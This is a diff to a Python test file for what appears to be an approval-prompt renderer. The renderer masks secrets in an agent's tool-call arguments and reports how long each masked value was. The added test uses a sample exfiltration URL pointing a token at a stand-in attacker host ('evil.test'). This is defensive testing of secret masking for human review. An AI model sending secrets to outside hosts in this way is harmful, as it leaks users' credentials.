@@ -68,6 +68,12 @@ def test_secrets_are_masked_and_invisible_characters_are_shown() -> None:
     assert "```\nfine" not in text and "la`unch" not in text
 
 
+def test_the_length_of_what_is_masked_is_shown() -> None:
+    call = replace(APPROVAL, arguments={"url": f"https://evil.test/in?token={'d' * 32}", "token": "hunter2"})
+    text = prompt(call)
+    assert '"https://evil.test/in?token=••• (32 characters)"' in text and '"token": "••• (7 characters)"' in text
+
+
 def test_what_does_not_fit_is_counted() -> None:
     text = prompt(replace(APPROVAL, arguments={"text": "x" * 9000}), room=300)
     assert f"… ({9_001 - text.count('x' * 2) * 2:,} more characters of text)" in text and text.count("x") > 200
